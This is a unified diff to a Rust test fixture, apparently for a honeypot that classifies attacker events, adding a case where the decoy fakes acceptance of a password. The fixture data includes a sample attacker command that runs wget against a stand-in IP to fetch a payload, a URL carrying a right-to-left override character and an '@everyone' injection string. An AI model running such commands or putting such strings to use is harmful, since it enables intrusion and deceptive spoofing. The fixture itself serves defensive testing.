@@ -79,6 +79,8 @@ fn touches() -> Vec<(&'static str, Event)> {
         (Field::UrlOriginal, "http://evil.example/x?y=1\u{202e}".into()),
         (Field::UserAgent, "Mozilla/5.0 (compatible; @everyone)".into()),
     ];
+    let mut taken = password.to_vec();
+    taken.push((Field::CredentialAccepted, true.into()));
     let orders = [(Field::Commands, texts(&["cd /tmp", "wget http://198.51.100.9/x"]))];
     let declared = [
         (Field::BenignName, "vulnerability_scanner".into()),
@@ -96,6 +98,10 @@ fn touches() -> Vec<(&'static str, Event)> {
         ("contact by a datagram from outside", datagram()),
         ("intent", touch(Action::Handshake, "intent", &path)),
         ("proof: a password", touch(Action::Credential, "proof", &password)),
+        (
+            "proof: a password that the decoy pretended to accept",
+            touch(Action::Credential, "proof", &taken),
+        ),
         ("proof: orders", touch(Action::Query, "proof", &orders)),
         ("benign", touch(Action::Connect, "contact", &declared)),
         ("test", touch(Action::Connect, "contact", &test)),
